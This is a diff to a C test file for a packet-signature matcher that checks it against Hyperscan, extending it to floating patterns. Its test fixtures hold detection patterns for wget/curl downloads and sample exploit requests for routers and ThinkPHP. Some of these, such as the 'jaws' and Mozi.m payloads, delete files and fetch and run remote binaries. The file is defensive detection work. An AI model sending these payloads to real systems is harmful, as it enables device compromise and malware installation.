@@ -1,12 +1,15 @@
 /* SPDX-License-Identifier: BSD-3-Clause */
 /*
- * lib/sig's anchored matcher (lib/sig/sig_fast.h) against Hyperscan itself,
+ * lib/sig's own matcher (lib/sig/sig_fast.h) against Hyperscan itself,
  * the reference: each pattern is compiled alone by Hyperscan (block mode,
  * single match, the rule's flags and depth as max_offset, exactly as lib/sig
  * compiles rules) and both must agree on every payload tried.
  *
  *  - which patterns the matcher takes and which it leaves to Hyperscan (the
- *    default rules: every anchored one taken, the unanchored ones not);
+ *    default rules: every one taken, anchored or floating);
+ *  - a floating pattern's answer with each way of filtering its start
+ *    offsets (AVX2, SSSE3, byte by byte), on payloads shorter and longer
+ *    than a block, matches across blocks and in the last bytes;
  *  - every class escape, '.', caseless bytes and classes over all 256 bytes;
  *  - hand-written patterns (quantifiers, nested groups, alternation, runs,
  *    depth) on their seeds, every prefix of them, and random mutations;
@@ -15,8 +18,10 @@
  *  - the default rules on their sample payloads' mutations;
  *  - a pattern that backtracks past the matcher's budget gives up (-1), and
  *    dc_sig_scan() then answers through Hyperscan, as with DC_SIG_NO_FAST;
- *  - the default rule set: which groups are scanned without Hyperscan, and
- *    dc_sig_fast_why() for the rules that are not;
+ *  - the default rule set: which groups are scanned without Hyperscan;
+ *  - port groups of several floating rules (their start filters sharing
+ *    the 8 buckets, or a bucket each and more): dc_sig_scan() against
+ *    DC_SIG_NO_FAST on generated payloads;
  *  - the scan's port lookup (ranges or map) against the one-database
  *    layout's port filter on every port.
  */
@@ -135,6 +140,22 @@ agree(const struct sig_prog *p, const struct ref *r, const char *expr, const uin
 
 	if (len == 0)
 		return 1;
+	if (p->floating) {
+		/* every way of filtering the offsets gives the same answer */
+		struct sig_fset fs = *p->one;
+
+		for (int w = SIG_SIMD_NONE; w <= p->one->simd; w++) {
+			int32_t x;
+
+			fs.simd = w;
+			x = sig_fset_scan(&fs, s, len);
+			if ((x < 0 ? -1 : (int)(x & 1)) != a) {
+				fprintf(stderr, "  /%s/ on %u bytes: filter %d says %d, the default %d\n", expr,
+					len, w, (int)x, a);
+				return 0;
+			}
+		}
+	}
 	b = ref_match(r, s, len);
 	g_compared++;
 	if (a < 0) {
@@ -226,9 +247,10 @@ try_around(const struct sig_prog *p, const struct ref *r, const char *expr, cons
 /* ---- which patterns the matcher takes -------------------------------------- */
 
 static const struct pat hand[] = {
-	/* not taken: unanchored, or a construct outside the subset */
-	{"abc", 0, 0, 0, {"abc"}},
+	/* not taken: a construct outside the subset */
 	{"^abc|def", 0, 0, 0, {"def"}},
+	{"a*", 0, 0, 0, {"b"}},
+	{"(?:a|b?)", 0, 0, 0, {"b"}},
 	{"^abc$", 0, 0, 0, {"abc"}},
 	{"^ab\\b", 0, 0, 0, {"ab c"}},
 	{"^a(?=b)", 0, 0, 0, {"ab"}},
@@ -279,6 +301,28 @@ static const struct pat hand[] = {
 	{"^(?:stats|gets? )", 0, 5, 1, {"stats", "gets ", "get ", "sta"}},
 	{"^a", 0, 1, 1, {"a", "ab", "b"}},
 	{"^.{0,5}b", 0, 4, 1, {"xxxb", "xxxxb", "b"}},
+	/* floating: anywhere in the payload (seeds longer than a block, with
+	 * matches across blocks and at the end) */
+	{"abc", 0, 0, 1,
+	 {"abc", "xxabcxx", "ABC................................................abc",
+	  "...............................abc.............................ab"}},
+	{"a|bc", 0, 0, 1,
+	 {"zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzza", "zzzzzzzzzzzzzzzb",
+	  "xbc", "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzbc"}},
+	{"a[^b]*c", 0, 0, 1, {"xxaxxc", "abc", "zzzazzzc", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab"}},
+	{"ab", 0, 4, 1, {"xxab", "xxxab", "ab", "..........ab"}},
+	{"x{3}y|zz", 0, 0, 1, {"axxxy", "azz", "xxy", "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxy"}},
+	{"\\x00\\x01[\\x00-\\xff]{2}\\xff", 0, 0, 1, {"ab\x01\x01\x02\x03\xff", "\x01\x01\x01\x01\xff"}},
+	{"(?:wget|curl)(?:\\s|\\+|%20|\\$\\{IFS\\})+https?:\\/\\/", DC_SIG_F_CASELESS, 0, 1,
+	 {"GET /x?cmd=cd+/tmp;wget+http://1.2.3.4/x HTTP/1.1\r\n", "curl%20%20https://",
+	  "WGET${IFS}http://", "cUrL \t http:/"}},
+	{"<(?:[A-Za-z_][A-Za-z0-9_.-]*:)?Probe[\\s>\\/]", 0, 0, 1,
+	 {"<?xml version=\"1.0\"?><soap:Envelope><soap:Body><wsd:Probe/>", "<Probe>", "<a:b:Probe ",
+	  "<:/><soap:Body><wsd:Resolve>"}},
+	{"invokefunction&function=call_user_func_array", DC_SIG_F_CASELESS, 0, 1,
+	 {"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"}},
+	{".{2,3}q", DC_SIG_F_DOTALL, 0, 1, {"aaq", "\nq\nq", "q"}},
+	{"\\Aab", 0, 0, 1, {"ab", "xab"}},
 };
 
 static void
@@ -541,7 +585,7 @@ gen_node(struct gen *g, struct strs *out, int depth)
 static void
 test_random(void)
 {
-	unsigned taken = 0, refused = 0, tried = 0;
+	unsigned taken = 0, refused = 0, tried = 0, nfloat = 0;
 	int bad = 0;
 
 	for (unsigned n = 0; n < 1500; n++) {
@@ -554,9 +598,13 @@ test_random(void)
 		const char *why;
 		struct sig_prog *p;
 		struct ref r;
+		int floating;
 
 		text[0] = '\0';
-		if (rnd(5) == 0) {
+		floating = rnd(3) == 0;
+		if (floating) {
+			gen_node(&g, &st, 0); /* matched anywhere */
+		} else if (rnd(5) == 0) {
 			flags |= DC_SIG_F_ANCHORED;
 			gen_node(&g, &st, 0);
 		} else {
@@ -581,18 +629,24 @@ test_random(void)
 			continue;
 		}
 		taken++;
+		nfloat += floating;
 		for (int i = 0; i < NSTR; i++) {
-			uint8_t tail[SCAP + 4];
+			uint8_t tail[SCAP + 64];
+			/* floating: the string after 0 .. 47 bytes of the grammar's */
+			uint32_t pre = floating ? rnd(48) : 0;
 
-			memcpy(tail, st.s[i], st.len[i]);
-			tail[st.len[i]] = gbytes[rnd(sizeof(gbytes))];
-			bad += !try_around(p, &r, text, tail, st.len[i] + 1, 60);
+			for (uint32_t b = 0; b < pre; b++)
+				tail[b] = gbytes[rnd(sizeof(gbytes))];
+			memcpy(tail + pre, st.s[i], st.len[i]);
+			tail[pre + st.len[i]] = gbytes[rnd(sizeof(gbytes))];
+			bad += !try_around(p, &r, text, tail, pre + st.len[i] + 1, 60);
 		}
 		ref_free(&r);
 		sig_prog_free(p);
 	}
-	printf("  random patterns: %u compiled by Hyperscan, %u taken by the matcher, %u refused by Hyperscan\n",
-	       tried, taken, refused);
+	printf("  random patterns: %u compiled by Hyperscan, %u taken by the matcher (%u floating), %u refused by Hyperscan\n",
+	       tried, taken, nfloat, refused);
+	CHECK(nfloat * 5 >= taken); /* about a third of them */
 	/* the grammar stays inside the subset but for stars over groups that
 	 * can match nothing (about 3 %) */
 	CHECK(taken * 10 >= tried * 9);
@@ -601,10 +655,11 @@ test_random(void)
 
 /* ---- the default rules --------------------------------------------------- */
 
-/* Default rule ids the matcher must take (anchored) and leave (unanchored). */
-static const uint32_t dflt_taken[] = {1001, 1002, 1003, 1004, 1005, 1006, 1007, 1008, 1010,
-				      1011, 2001, 2002, 2004};
-static const uint32_t dflt_left[] = {1009, 2003, 2005, 2006, 2007};
+/* Default rule ids the matcher must take: every one (anchored, or floating:
+ * 1009, 2003, 2005, 2006, 2007). */
+static const uint32_t dflt_taken[] = {1001, 1002, 1003, 1004, 1005, 1006, 1007, 1008, 1009,
+				      1010, 1011, 2001, 2002, 2003, 2004, 2005, 2006, 2007};
+static const uint32_t dflt_floating[] = {1009, 2003, 2005, 2006, 2007};
 
 /* Payloads built from each default rule's form: one that matches and its
  * mutations. */
@@ -634,6 +689,13 @@ test_default_rules(const char *file)
 		S(2001, "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n"),
 		S(2002, "POST /picsdesc.xml HTTP/1.1\r\n"),
 		S(2004, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"),
+		S(1009, "<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><wsd:Probe><wsd:Types>dn:NetworkVideoTransmitter</wsd:Types></wsd:Probe></soap:Body></soap:Envelope>"),
+		S(1009, "<Probe xmlns=\"http://schemas.xmlsoap.org/ws/2005/04/discovery\"/>"),
+		S(2003, "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n"),
+		S(2005, "GET /index.php?s=/Index/\\think\\app/invokeFunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget HTTP/1.1\r\n"),
+		S(2006, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n"),
+		S(2007, "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<NewStatusURL>$(/bin/busybox wget -g 192.0.2.1 -l /tmp/x -r /m; curl${IFS}http://192.0.2.1/x)</NewStatusURL>"),
+		S(2007, "cd /tmp; WGET%20https://192.0.2.7/bins.sh"),
 #undef S
 	};
 	const char *files[] = {file};
@@ -652,20 +714,19 @@ test_default_rules(const char *file)
 		const struct dc_sig_rule *rule = dc_sig_rule(db, i);
 		const char *why;
 		struct sig_prog *p = sig_prog_build(rule->expr, rule->flags, rule->depth, &why);
-		int want = -1;
+		int want = 0, fl = 0;
 
 		for (size_t k = 0; k < NELEM(dflt_taken); k++)
-			want = dflt_taken[k] == rule->id ? 1 : want;
-		for (size_t k = 0; k < NELEM(dflt_left); k++)
-			want = dflt_left[k] == rule->id ? 0 : want;
+			want |= dflt_taken[k] == rule->id;
+		for (size_t k = 0; k < NELEM(dflt_floating); k++)
+			fl |= dflt_floating[k] == rule->id;
 		CHECK_EQ(p != NULL, want);
 		if ((p != NULL) != want)
 			fprintf(stderr, "  rule %u: %s\n", rule->id, p ? "taken" : why);
+		if (p != NULL)
+			CHECK_EQ(p->floating, fl);
 		/* the library says the same of the rule */
 		CHECK_EQ(dc_sig_fast_why(db, i) == NULL, want == 1);
-		if (want == 0)
-			CHECK(dc_sig_fast_why(db, i) != NULL &&
-			      strcmp(dc_sig_fast_why(db, i), "not anchored at the payload's first byte") == 0);
 		if (p != NULL) {
 			struct ref r;
 
@@ -683,13 +744,12 @@ test_default_rules(const char *file)
 	}
 	CHECK_EQ(bad, 0);
 	CHECK_EQ(g_gaveup, gaveup0); /* the default rules never need Hyperscan's answer */
-	/* 13 rules taken; the UDP groups of the default set are all anchored
-	 * (every group of a port with a UDP rule but WS-Discovery's 3702), the
-	 * TCP ones all include an unanchored "any port" rule. */
+	/* every rule taken, so every group is decided without Hyperscan */
 	CHECK_EQ(dc_sig_fast_count(db, &groups), NELEM(dflt_taken));
 	printf("  default rules: %u of %u taken, %u of %u groups without Hyperscan\n",
 	       dc_sig_fast_count(db, NULL), dc_sig_count(db), groups, dc_sig_db_count(db));
-	CHECK_EQ(groups, 8);
+	CHECK_EQ(groups, dc_sig_db_count(db));
+	CHECK_EQ(groups, 13);
 	dc_sig_free(db);
 }
 
@@ -717,6 +777,13 @@ test_give_up(void)
 	s[30] = 'b';
 	CHECK_EQ(sig_prog_run(p, s, 40), 1);            /* greedy-first finds it */
 	sig_prog_free(p);
+	p = sig_prog_build(expr + 1, 0, 0, &why); /* floating: the budget is per payload */
+	CHECK(p != NULL && p->floating);
+	if (p == NULL)
+		return;
+	memset(s, 'a', sizeof(s));
+	CHECK_EQ(sig_prog_run(p, s, 40), (uint64_t)-1);
+	sig_prog_free(p);
 
 	/* Through dc_sig_scan(): the group falls back to Hyperscan and answers
 	 * as it does with DC_SIG_NO_FAST. */
@@ -725,7 +792,9 @@ test_give_up(void)
 	if (fd < 0)
 		return;
 	f = fdopen(fd, "w");
-	fprintf(f, "77 slow slow udp 99 /%s/\n78 quick quick udp 99 /^aaa/\n", expr);
+	/* 79: the same pattern floating, giving up at its first offset */
+	fprintf(f, "77 slow slow udp 99 /%s/\n78 quick quick udp 99 /^aaa/\n79 slowf slowf udp 99 /%s/\n",
+		expr, expr + 1);
 	fclose(f);
 	{
 		const char *files[] = {path};
@@ -738,11 +807,11 @@ test_give_up(void)
 
 		CHECK(sa != NULL && sb != NULL);
 		if (sa != NULL && sb != NULL) {
-			CHECK_EQ(dc_sig_fast_count(a, &groups), 2);
+			CHECK_EQ(dc_sig_fast_count(a, &groups), 3);
 			CHECK_EQ(groups, 1);
 			CHECK_EQ(dc_sig_fast_count(b, NULL), 0);
 			CHECK(dc_sig_fast_why(b, 0) != NULL &&
-			      strcmp(dc_sig_fast_why(b, 0), "anchored matcher off") == 0);
+			      strcmp(dc_sig_fast_why(b, 0), "darkcap's matcher off") == 0);
 			CHECK(dc_sig_fast_why(a, 0) == NULL);
 			memset(s, 'a', sizeof(s));
 			for (uint32_t len = 1; len <= 40; len++) {
@@ -753,7 +822,8 @@ test_give_up(void)
 				CHECK_EQ(na, len >= 3); /* only 78: no b */
 			}
 			s[30] = 'b';
-			CHECK_EQ(dc_sig_scan(a, sa, 17, 99, s, 40, oa), 2);
+			CHECK_EQ(dc_sig_scan(a, sa, 17, 99, s, 40, oa), 3);
+			CHECK_EQ(dc_sig_scan(b, sb, 17, 99, s, 40, ob), 3);
 		}
 		dc_sig_scratch_free(sa);
 		dc_sig_scratch_free(sb);
@@ -844,6 +914,101 @@ test_port_lookup(void)
 	CHECK_EQ(bad, 0);
 }
 
+
+/* ---- port groups of floating rules ------------------------------------------ */
+
+/* Rules on udp 99 made of a few tokens (some caseless, alternations, runs,
+ * a depth), anchored and floating; payloads made of the same tokens and
+ * noise; dc_sig_scan() grouped (programs, their start filters in shared or
+ * own buckets) against DC_SIG_NO_FAST (Hyperscan alone), rule by rule. */
+static void
+test_float_groups(void)
+{
+	static const char *const tok[] = {"wget", "curl", "http://", "abc", "ABD", "/sh", "<x:P", "%20",
+					  "\x01\x02", "zz"};
+	static const char *const sets[] = {
+		/* 3 floating rules: several start filters each, spare buckets */
+		"1 a a udp 99 /(?:wget|curl)(?:\\s|%20)+http:\\/\\//i\n"
+		"2 b b udp 99 /ab[cd]/i\n"
+		"3 c c udp 99 /^zz/\n"
+		"4 d d udp 99 /<(?:[a-z]+:)?P/\n",
+		/* 12 floating rules: buckets shared (rule k in bucket k % 8) */
+		"1 a a udp 99 /wget/\n2 b b udp 99 /curl/i\n3 c c udp 99 /http:/\n"
+		"4 d d udp 99 /abc/\n5 e e udp 99 /ABD/i\n6 f f udp 99 /\\/sh/\n"
+		"7 g g udp 99 /x:P/\n8 h h udp 99 /%20z/\n9 i i udp 99 /\\x01\\x02/\n"
+		"10 j j udp 99 /zz/ depth=12\n11 k k udp 99 /[a-c]{2}[d-z]/\n12 l l udp 99 /a|P/\n"
+		"13 m m udp 99 /^wget/\n",
+	};
+	char path[] = "/tmp/test_sig_fgrp.XXXXXX";
+	int bad = 0;
+
+	for (size_t k = 0; k < NELEM(sets); k++) {
+		int fd = mkstemp(path);
+		const char *files[] = {path};
+		struct dc_sig_db *a, *b;
+		struct dc_sig_scratch *sa, *sb;
+		unsigned groups = 0;
+
+		CHECK(fd >= 0);
+		if (fd < 0)
+			return;
+		CHECK(write(fd, sets[k], strlen(sets[k])) == (ssize_t)strlen(sets[k]));
+		close(fd);
+		a = dc_sig_load_opts(files, 1, NULL, 0);
+		b = dc_sig_load_opts(files, 1, NULL, DC_SIG_NO_FAST);
+		sa = a ? dc_sig_scratch_new(a) : NULL;
+		sb = b ? dc_sig_scratch_new(b) : NULL;
+		CHECK(sa != NULL && sb != NULL);
+		if (sa != NULL) {
+			CHECK_EQ(dc_sig_fast_count(a, &groups), dc_sig_count(a));
+			CHECK_EQ(groups, 1);
+		}
+		for (unsigned n = 0; sa && sb && n < 20000; n++) {
+			uint8_t pl[200];
+			uint32_t len = 0, want = 1 + rnd(sizeof(pl) - 8);
+			uint16_t oa[DC_SIG_PKT_MATCHES], ob[DC_SIG_PKT_MATCHES];
+			uint32_t ma = 0, mb = 0;
+			unsigned na, nb;
+
+			while (len < want) {
+				if (rnd(3) == 0) {
+					const char *t = tok[rnd(NELEM(tok))];
+					size_t tl = strlen(t);
+
+					if (len + tl > sizeof(pl))
+						break;
+					for (size_t c = 0; c < tl; c++)
+						pl[len++] = (uint8_t)(rnd(4) == 0 && ((t[c] | 0x20) >= 'a' &&
+										  (t[c] | 0x20) <= 'z')
+									      ? t[c] ^ 0x20 : t[c]);
+				} else {
+					pl[len++] = gbytes[rnd(sizeof(gbytes))];
+				}
+			}
+			na = dc_sig_scan(a, sa, 17, 99, pl, len, oa);
+			nb = dc_sig_scan(b, sb, 17, 99, pl, len, ob);
+			for (unsigned i = 0; i < na; i++)
+				ma |= 1u << oa[i];
+			for (unsigned i = 0; i < nb; i++)
+				mb |= 1u << ob[i];
+			g_compared++;
+			g_matched += na != 0;
+			if (na != nb || ma != mb) {
+				if (bad++ < 5)
+					fprintf(stderr, "  set %zu, %u bytes: matcher rules %#x, Hyperscan %#x\n", k,
+						len, ma, mb);
+			}
+		}
+		dc_sig_scratch_free(sa);
+		dc_sig_scratch_free(sb);
+		dc_sig_free(a);
+		dc_sig_free(b);
+		unlink(path);
+		memcpy(path + strlen(path) - 6, "XXXXXX", 6);
+	}
+	CHECK_EQ(bad, 0);
+}
+
 static const char *g_default_file;
 
 static void
@@ -856,11 +1021,12 @@ int
 main(int argc, char **argv)
 {
 	static const struct dc_test_case tc[] = {
-		{"anchored matcher: hand-written patterns", test_hand},
-		{"anchored matcher: every byte of every class", test_bytes},
-		{"anchored matcher: random patterns", test_random},
-		{"anchored matcher: default rules", test_default},
-		{"anchored matcher: giving up", test_give_up},
+		{"matcher: hand-written patterns", test_hand},
+		{"matcher: every byte of every class", test_bytes},
+		{"matcher: random patterns", test_random},
+		{"matcher: default rules", test_default},
+		{"matcher: giving up", test_give_up},
+		{"floating rules: port groups against Hyperscan", test_float_groups},
 		{"port lookup: ranges and map against one database", test_port_lookup},
 	};
 	int ret;
